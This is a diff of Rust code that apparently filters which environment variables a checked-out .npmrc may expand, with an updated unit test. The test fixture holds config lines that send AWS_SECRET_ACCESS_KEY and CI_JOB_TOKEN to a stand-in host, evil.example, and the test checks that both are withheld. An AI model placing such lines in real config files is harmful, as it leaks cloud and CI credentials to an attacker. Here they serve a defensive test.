@@ -74,8 +74,8 @@ pub(super) struct Named {
     pub(super) withheld: BTreeSet<String>,
 }
 
-/// The variables that the project's file and the user's name. The project's file comes with a checkout, so that a variable
-/// of a cloud or CI system must be for a host of its own; in the user's file it is the user's word.
+/// The variables that the project's file and the user's name. The project's file comes with a checkout, so that
+/// `trust` decides what it may send; in the user's file it is the user's word.
 pub(super) fn variables(project: &Path, env: &Env) -> Result<Named> {
     let mut named = Named::default();
     let user = user_file(env).and_then(|file| fsx::read_text(&file).ok().flatten()).unwrap_or_default();
@@ -162,15 +162,15 @@ mod tests {
         let home = dir.path().join("home");
         std::fs::create_dir(&home).unwrap();
         std::fs::write(home.join(".npmrc"), "//r.example/:_authToken=${GH_TOKEN}\n").unwrap();
-        let project = "//npm.pkg.github.com/:_authToken=${GITHUB_TOKEN}\n//r.example/:_authToken=${ACME_TOKEN?}\n\
+        let project = "//npm.pkg.github.com/:_authToken=${GITHUB_TOKEN}\n//r.example/:_authToken=${NPM_TOKEN?}\n\
                        # ${AWS_REGION}\nregistry=https://evil.example/${AWS_SECRET_ACCESS_KEY}/\n\
                        //evil.example/:_authToken=${CI_JOB_TOKEN}\n";
         std::fs::write(dir.path().join(".npmrc"), project).unwrap();
         let home = home.display().to_string();
-        let vars = ["GITHUB_TOKEN", "GH_TOKEN", "ACME_TOKEN", "AWS_REGION", "AWS_SECRET_ACCESS_KEY", "CI_JOB_TOKEN"];
+        let vars = ["GITHUB_TOKEN", "GH_TOKEN", "NPM_TOKEN", "AWS_REGION", "AWS_SECRET_ACCESS_KEY", "CI_JOB_TOKEN"];
         let vars: Vec<_> = vars.into_iter().map(|name| (name, "v")).chain([("HOME", home.as_str())]).collect();
         let named = variables(dir.path(), &Env::fake(dir.path(), &vars)).unwrap();
-        assert_eq!(named.given.into_keys().collect::<Vec<_>>(), ["ACME_TOKEN", "GH_TOKEN", "GITHUB_TOKEN"]);
+        assert_eq!(named.given.into_keys().collect::<Vec<_>>(), ["GH_TOKEN", "GITHUB_TOKEN", "NPM_TOKEN"]);
         assert_eq!(named.withheld.into_iter().collect::<Vec<_>>(), ["AWS_SECRET_ACCESS_KEY", "CI_JOB_TOKEN"]);
     }
 
